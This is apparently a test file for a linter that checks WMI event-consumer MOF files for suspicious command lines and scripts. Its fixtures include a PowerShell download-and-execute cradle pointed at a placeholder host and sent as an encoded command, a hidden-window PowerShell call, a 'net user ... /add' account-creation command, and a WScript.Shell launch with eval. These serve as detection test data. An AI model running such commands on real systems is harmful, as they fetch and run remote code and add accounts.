import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { StandardConsumerClass } from '../../src/compiler/model.ts';
import { type Changes, sampleConsumerOf } from '../../src/linter/consumer-samples.ts';
import { rules } from '../../src/linter/registry.ts';
import { sampleSubscription } from '../../src/linter/samples.ts';
import { analyzing, findingsOf } from '../support/analysis.ts';

const withConsumer = (className: StandardConsumerClass, changes: Changes): string =>
  sampleSubscription({ consumer: sampleConsumerOf(className, changes) });

/** Text as a MOF literal. */
function literal(text: string): string {
  const escaped = text.replaceAll(
    /[^ !#-[\]-~]/g,
    (character) => `\\x${character.charCodeAt(0).toString(16).padStart(4, '0')}`,
  );
  return `"${escaped}"`;
}

const encode = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

describe('what was seen in a command line', () => {
  const message = (line: string, path?: string): string | undefined =>
    findingsOf(
      'cmdline-suspicious-content',
      withConsumer('CommandLineEventConsumer', {
        ExecutablePath: path === undefined ? undefined : literal(path),
        CommandLineTemplate: literal(line),
      }),
    ).at(0)?.message;

  test('is decoded and read', () => {
    const code = "IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')";
    expect(message(`powershell.exe -NoP -Enc ${encode(code)}`)).toContain(
      `runs an encoded command that reads "${code}", which runs text as code and downloads (http://a.example/x)`,
    );
  });

  test('is seen behind a program that it does not fit', () => {
    expect(message('powershell.exe -w hidden -c x', 'C:\\Windows\\System32\\cmd.exe')).toContain(
      'hides its window',
    );
  });

  test('is not judged', () => {
    for (const { summary, why, group } of rules.filter(({ group }) => group === 'suspicious')) {
      expect(`${group} ${summary} ${why}`).not.toMatch(/malware|malicious|virus|attack/i);
    }
    expect(message('cmd.exe /c net user a b /add')).not.toMatch(/malware|malicious|attacker/i);
  });

  test.each([
    ['"C:\\Program Files\\V\\a.exe" -enc x', 'C:\\Program Files\\V\\a.exe'],
    [
      'powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\\Program Files\\V\\a.ps1"',
      undefined,
    ],
    ['cmd.exe /c "C:\\Program Files\\V\\a.cmd" > nul', 'C:\\Windows\\System32\\cmd.exe'],
    ['msiexec.exe /qn /i "C:\\Program Files\\V\\a.msi"', 'C:\\Windows\\System32\\msiexec.exe'],
  ])('is nothing in %j', (line, path) => {
    expect(message(line, path)).toBeUndefined();
  });
});

describe('what was seen in a script', () => {
  test('shows the other places too', () => {
    const code = String.raw`var s = new ActiveXObject("WScript.Shell"); s.Run("a.exe"); eval(x);`;
    const text = withConsumer('ActiveScriptEventConsumer', {
      ScriptFileName: undefined,
      ScriptText: literal(code),
    });
    const [finding] = findingsOf('script-suspicious-content', text);
    expect(finding?.message).toContain('The script starts "a.exe" and runs text as code');
    expect(finding?.related.map(({ start, end }) => text.slice(start, end))).toEqual(['eval']);
  });
});

test('any text in any property is read without a throw, and every finding lies in the file', () => {
  const properties: readonly (readonly [StandardConsumerClass, string])[] = [
    ['CommandLineEventConsumer', 'CommandLineTemplate'],
    ['CommandLineEventConsumer', 'ExecutablePath'],
    ['ActiveScriptEventConsumer', 'ScriptText'],
    ['ActiveScriptEventConsumer', 'ScriptFileName'],
    ['ActiveScriptEventConsumer', 'ScriptingEngine'],
    ['LogFileEventConsumer', 'Text'],
    ['LogFileEventConsumer', 'Filename'],
    ['NTEventLogEventConsumer', 'SourceName'],
    ['SMTPEventConsumer', 'ToLine'],
  ];
  const pieces = fc.constantFrom(
    'powershell',
    ' -e ',
    '%A%',
    '%',
    '"',
    '\\',
    'cmd /c ',
    '.exe',
    ' ',
    '&',
    'C:\\',
    'net user a b',
    '\n',
    'é',
    '.Run("',
    'WScript.',
    ';',
    'WScript.Shell',
  );
  fc.assert(
    fc.property(
      fc.constantFrom(...properties),
      fc.array(fc.oneof(pieces, fc.string({ maxLength: 5 })), { maxLength: 12 }),
      ([className, property], parts) => {
        const file = withConsumer(className, { [property]: literal(parts.join('')) });
        for (const { start, end, related, fixes } of analyzing(file).diagnostics) {
          const edits = fixes.flatMap((fix) => fix.edits);
          for (const place of [{ start, end }, ...related, ...edits]) {
            expect(place.start).toBeGreaterThanOrEqual(0);
            expect(place.end).toBeGreaterThanOrEqual(place.start);
            expect(place.end).toBeLessThanOrEqual(file.length);
          }
        }
      },
    ),
    { numRuns: 300 },
  );
});
